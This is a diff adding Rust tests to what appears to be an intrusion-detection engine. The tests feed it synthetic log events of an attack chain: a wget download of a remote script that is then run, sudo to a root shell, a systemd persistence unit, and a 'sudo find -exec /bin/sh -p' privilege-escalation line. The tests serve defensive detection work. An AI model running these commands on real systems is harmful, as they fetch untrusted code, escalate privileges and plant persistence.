@@ -836,6 +836,90 @@ fn routine_scripts_are_info_but_a_fake_sa1_is_not() {
     assert_eq!(of(&r, "event-exec-unusual-location").len(), 1);
 }
 
+#[test]
+fn what_descends_from_the_intrusion_is_judged_as_such() {
+    // deploy's shell (10) runs a downloaded implant, then `sudo -i` (20) and a root shell
+    // (21) writes a unit whose content the record does not show.
+    let shell = proc(10, 1, "/usr/bin/bash", "-bash", "deploy");
+    let sudo = proc(20, 10, "/usr/bin/sudo", "sudo -i", "deploy");
+    let root = proc(21, 20, "/usr/bin/bash", "-bash", "root");
+    let write = |t: &str| {
+        let mut e = event(
+            "db1",
+            t,
+            Format::DefenderCsv,
+            "DeviceFileEvents",
+            "FileCreated",
+        );
+        e.process = Some(root.clone());
+        e.parent = Some(Process {
+            pid: Some(20),
+            name: Some("sudo".into()),
+            ..Process::default()
+        });
+        e.user = Some("root".into());
+        e.file = Some("/etc/systemd/system/syncd.service".into());
+        e
+    };
+    let mut evs = vec![
+        created(
+            "2026-11-20T02:36:58Z",
+            proc(
+                11,
+                10,
+                "/usr/bin/wget",
+                "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd",
+                "deploy",
+            ),
+            shell.clone(),
+            "sshd",
+        ),
+        created(
+            "2026-11-20T02:37:05Z",
+            proc(12, 10, "/tmp/.x/syncd", "/tmp/.x/syncd", "deploy"),
+            shell.clone(),
+            "sshd",
+        ),
+        created("2026-11-20T02:38:21Z", sudo.clone(), shell.clone(), "sshd"),
+        created("2026-11-20T02:38:22Z", root.clone(), sudo.clone(), "bash"),
+        write("2026-11-20T02:38:47Z"),
+    ];
+    let r = run(&evs);
+    // Fetch, chmod and run over several commands is download-and-execute.
+    assert_eq!(
+        of(&r, "event-download-exec")[0].subject,
+        "http://203.0.113.45/x.sh"
+    );
+    let unit = of(&r, "event-persistence-write");
+    assert_eq!(unit[0].severity, Severity::High, "{}", unit[0].explanation);
+    assert!(unit[0].explanation.contains("process of the intrusion"));
+    // The same write from a session that did nothing wrong is Medium.
+    evs.drain(..2);
+    let clean = one(&evs, "event-persistence-write");
+    assert_eq!(clean.severity, Severity::Medium);
+}
+
+#[test]
+fn sudo_by_a_service_account() {
+    let mut cmd = event("web1", T, Format::Audit, "USER_CMD", "USER_CMD");
+    cmd.process = Some(proc(
+        24140,
+        0,
+        "/usr/bin/sudo",
+        "find . -exec /bin/sh -p ; -quit",
+        "uid=33",
+    ));
+    cmd.user = Some("www-data".into());
+    let a = one(&[cmd.clone()], "event-privilege-change");
+    assert_eq!(
+        (a.severity, a.subject.as_str()),
+        (Severity::High, "www-data")
+    );
+    // An administrator's sudo is not a privilege change.
+    cmd.user = Some("alice".into());
+    none(&[cmd], "event-privilege-change");
+}
+
 // ---------------------------------------------------------------- driver
 
 trait Tap {
@@ -1004,7 +1088,7 @@ fn intrusion_story_raises_each_step() {
         (
             "db1",
             "event-persistence-write",
-            Severity::Medium,
+            Severity::High,
             "/home/deploy/.ssh/authorized_keys",
         ),
     ];
